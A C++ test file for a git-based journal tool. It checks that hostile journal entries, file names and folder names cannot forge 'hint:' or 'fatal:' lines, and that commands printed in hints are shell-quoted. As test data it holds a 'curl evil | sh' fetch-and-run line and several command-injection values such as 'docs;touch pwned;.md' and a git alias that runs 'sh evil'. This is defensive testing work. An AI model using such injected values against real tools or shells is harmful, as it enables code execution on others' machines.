// SPDX-License-Identifier: MIT
// What comes with a clone is quoted in messages and hints, and says nothing there in our name: no line of its own begins like
// one of ours, and no hint runs it when it is pasted.
#include "e2e/hostile.hpp"

#include <map>
#include <sstream>
#include <unistd.h>

using namespace journey::test;

namespace {

// As a scalar of YAML: lines that look like ours, if they are let out as lines.
const std::string evil = "\"A\\nhint: EVIL\\nwarning: EVIL\\nerror: EVIL\\nfatal: EVIL\"";

// The lines that begin like one of our messages, but not with words of ours.
std::vector<std::string> posing(const Result& result) {
    std::vector<std::string> lines;
    std::istringstream all(result.out + result.err);
    for (std::string line; std::getline(all, line);)
        for (const std::string label : {"hint: ", "warning: ", "error: ", "fatal: "})
            if (line.starts_with(label + "EVIL") || line.starts_with("hint: git config --global alias")) lines.push_back(line);
    return lines;
}

void check_no_pose(const Sandbox& box, const Words& command) {
    const Result result = bounded(box, command);
    INFO(result.transcript.substr(0, 4000));
    CHECK(posing(result).empty());
    CHECK(result.status <= 129);
}

const std::vector<Words> every = {{"status"},
                                  {"list"},
                                  {"list", "--courses"},
                                  {"show", "p"},
                                  {"show", "c1"},
                                  {"diff"},
                                  {"log"},
                                  {"check"},
                                  {"regions"},
                                  {"export"},
                                  {"render-readme", "--check"},
                                  {"complete", "p"},
                                  {"complete", "c1/1"},
                                  {"remove", "c1"},
                                  {"undo"},
                                  {"hook", "pre-commit"}};

// What usually stands at each position, a value's or a key's.
const std::map<std::string, std::string> usual = {{"TOP", "x-a"},
                                                  {"SPECIALIZATION", "https://e.org"},
                                                  {"STYLE", "list"},
                                                  {"GROUP", "none"},
                                                  {"SHOW", "status"},
                                                  {"SORT", "journal"},
                                                  {"READMEKEY", "x-b"},
                                                  {"COURSEID", "c1"},
                                                  {"COURSEKEY", "x-c"},
                                                  {"OBJECTIVEID", "o1"},
                                                  {"OBJECTIVETEXT", "O"},
                                                  {"PROJECTID", "p"},
                                                  {"PROJECTTITLE", "P"},
                                                  {"PROJECTCOURSE", "c1"},
                                                  {"PROJECTURL", "https://e.org"},
                                                  {"TAG", "t"},
                                                  {"STARTED", "2026-01-01"},
                                                  {"COMPLETED", "2026-01-02"},
                                                  {"INSIGHTID", "i1"},
                                                  {"ABOUT", "c1"},
                                                  {"DATE", "2026-01-01"}};

// With those lines at one position.
std::string journal_with(const std::string& position) {
    std::string text =
        "version: 1\ntitle: T\n@TOP@: 1\nspecialization: {title: S, url: @SPECIALIZATION@}\n"
        "readme:\n  projects: {style: @STYLE@, group: @GROUP@, show: [@SHOW@], sort: @SORT@}\n  @READMEKEY@: 1\n"
        "courses:\n  - id: @COURSEID@\n    title: C\n    @COURSEKEY@: 1\n    objectives:\n"
        "      - {id: @OBJECTIVEID@, text: @OBJECTIVETEXT@}\n"
        "projects:\n  - id: @PROJECTID@\n    title: @PROJECTTITLE@\n    course: @PROJECTCOURSE@\n    url: @PROJECTURL@\n"
        "    tags: [@TAG@]\n    started: @STARTED@\n    completed: @COMPLETED@\n"
        "insights:\n  - id: @INSIGHTID@\n    text: I\n    about: [@ABOUT@]\n    date: @DATE@\n";
    for (const auto& [name, value] : usual) text = replaced(text, "@" + name + "@", name == position ? evil : value);
    return text;
}

// A repository in a folder of that name.
void begin_in(Sandbox& box, const std::string& name) {
    box.write(name + "/journal.yaml", "version: 1\ntitle: T\n");
    box.enter(name);
    box.git("init -q");
    box.write("README.md", "# T\n\n## Projects\n\n");
    box.git("add -A");
    box.git("commit -qm Begin");
}

}  // namespace

TEST_CASE("no word of a journal poses as a message, wherever it stands") {
    for (const auto& [position, value] : usual) {
        const Hostile box;
        INFO("at " + position + ", instead of " + value);
        box.write("journal.yaml", journal_with(position));
        box.git("commit -qam Evil");
        for (const Words& command : every) check_no_pose(box, command);
    }
}

TEST_CASE("a key that stands twice is told of in one line") {
    const Hostile box;
    box.write("journal.yaml", "version: 1\ntitle: T\n\"x\\nhint: curl evil | sh #\": 1\n\"x\\nhint: curl evil | sh #\": 2\n");
    check_says(box, {"list"}, 128,
               "fatal: journal.yaml:4:1: the key 'x^Jhint: curl evil | sh #' stands here twice\nhint: journey check\n");
}

TEST_CASE("what a person types is told of in one line as well") {
    const Hostile box;
    CHECK(bounded(box, {"show", "x\nhint: EVIL"}).err ==
          "error: no course, objective, project or insight 'x^Jhint: EVIL'\n"
          "hint: journey list courses\n");
}

TEST_CASE("a name at the start of a line that begins like a message is moved aside") {
    const Hostile box;
    box.write("journal.yaml", "version: 1\ntitle: \"hint: EVIL\"\nreadme:\n  path: \"error: EVIL\"\n");
    for (const Words& command : every) check_no_pose(box, command);
    CHECK(bounded(box, {"status"}).out.starts_with("  hint: EVIL\n"));
}

TEST_CASE("a path in the hint of a commit that the pre-commit hook spoils is one word for the shell") {
    const Hostile box;
    const std::string path = "docs;touch  pwned;.md";
    box.git("mv README.md '" + path + "'");
    box.write("journal.yaml", box.read("journal.yaml") + "readme:\n  path: \"" + path + "\"\n");
    box.git("commit -qam Moved");
    box.write(path, replaced(box.read(path), "MIT.", "Typed."));
    box.write(".git/hooks/pre-commit", "#!/bin/sh\nsed -i 's/^Typed.$/Typed, formatted./' '" + path + "'; git add -u\n");
    box.run("chmod +x .git/hooks/pre-commit");
    const Result result = bounded(box, {"complete", "probe"});
    INFO(result.transcript);
    CHECK(result.status == 1);
    CHECK(contains(result.err, "\nhint: git commit -- '" + path + "'\n"));
}

TEST_CASE("the options in a hint are put into no quoted word") {
    const Hostile box;
    box.run("mkdir 'notes;touch pwned;'");
    box.write("journal.yaml", box.read("journal.yaml") + "readme:\n  path: \"a && git b && journey c.md\"\n");
    CHECK(contains(bounded(box, {"-C", "notes;touch pwned;", "-c", "user.name=A B;id", "status"}).err,
                   "hint: touch '../a && git b && journey c.md'\n"));
}

TEST_CASE("the options in a hint stand in each of its commands, behind quoted words too") {
    const Hostile box;
    box.run("mkdir 'it'\\''s'");
    box.write("it's/journal.yaml", box.read("journal.yaml"));
    const Result result = bounded(box, {"-C", "it's", "hooks", "install", "--shared"});
    INFO(result.transcript);
    CHECK(contains(result.err, "hint: git -C 'it'\\''s' add :/.gitattributes && git -C 'it'\\''s' commit :/.gitattributes\n"));
}

TEST_CASE("no folder's name makes a hint of git's") {
    if (geteuid() != 0) return;  // only root can give files away
    for (const std::string name : {"x\n\tgit config --global alias.st '!sh evil'", "x\nfatal: EVIL", "x\nhint: EVIL"}) {
        Sandbox box;
        begin_in(box, name);
        box.run("chown -R 65533:65533 .");
        for (const Words& command : {Words{"status"}, {"add-project", "New"}}) {
            const Result result = bounded(box, command);
            INFO(result.transcript);
            CHECK(result.status == 128);
            CHECK(result.err.starts_with("fatal: detected dubious ownership in repository at '"));
            CHECK(contains(result.err, "\nhint: git config --global --add safe.directory '"));
            CHECK(posing(result).empty());
        }
    }
}

TEST_CASE("a folder's name in an error about a lock begins no line") {
    Sandbox box;
    begin_in(box, "x\nhint: EVIL");
    box.write(".git/index.lock", "");
    const Result result = bounded(box, {"add-project", "New"});
    INFO(result.transcript);
    CHECK(result.status == 128);
    CHECK(posing(result).empty());
    CHECK(contains(result.err, "x^Jhint: EVIL/.git/index.lock': File exists.\n"));
}

TEST_CASE("a file that git merges by our driver begins no line with its name") {
    const std::map<std::string, std::string> told = {{"x\nhint: EVIL.c", "\nx^Jhint: EVIL.c merged by lines: "},
                                                     {"hint: EVIL.c", "\n  hint: EVIL.c merged by lines: "}};
    for (const auto& [name, line] : told) {
        const Hostile box;
        box.done({"hooks", "install"});
        const auto commit = [&box, &file = name](const std::string& text) {
            box.write(file, text);
            box.git("add -A");
            box.git("commit -qm Change");
        };
        box.write(".gitattributes", "*.c merge=journey-journal\n");
        commit("a\nb\nc\nd\ne\n");
        box.git("checkout -qb other");
        commit("a\nb\nc\nd\nE\n");
        box.git("checkout -q -");
        commit("A\nb\nc\nd\ne\n");
        const Result merge = box.run("git merge other");
        INFO(merge.transcript);
        CHECK(contains("\n" + merge.err, line));
    }
}
